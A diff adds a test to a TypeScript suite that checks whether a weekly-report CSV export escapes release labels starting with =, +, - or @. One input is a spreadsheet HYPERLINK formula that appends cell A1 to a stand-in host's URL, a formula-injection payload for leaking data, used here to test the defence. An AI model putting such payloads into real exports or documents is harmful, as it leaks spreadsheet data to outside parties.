@@ -313,4 +313,27 @@ describe.each(DIALECTS)('weekly report on %s', (dialect) => {
       }
     }
   });
+
+  // Last: it adds release markers to the shared week.
+  it('neutralises release labels a spreadsheet would run as a formula', async () => {
+    const labels = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', '+1+2', '-3+4', '@SUM(A1:A9)'];
+    for (const [i, label] of labels.entries()) {
+      await addRelease(
+        t.db,
+        { at: start + 3 * D + i * H, label, kind: 'release', createdBy: 'a@vneid' },
+        NOW,
+      );
+    }
+    const r = await make('vi');
+    const cells = r.csv.split('\r\n').flatMap((line) => line.split(','));
+    for (const label of labels) {
+      const first = label.split(',')[0] ?? label;
+      expect(cells.some((c) => c.replace(/^"/, '').startsWith(first))).toBe(false);
+    }
+    expect(r.csv).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1`);
+    expect(r.csv).toContain(",'+1+2,");
+    expect(r.csv).toContain(",'-3+4,");
+    expect(r.csv).toContain(",'@SUM(A1:A9),");
+    expect(r.csv).toContain('\r\ntopic,otp,Mã OTP,16,10,60\r\n'); // numbers stay numbers
+  });
 });
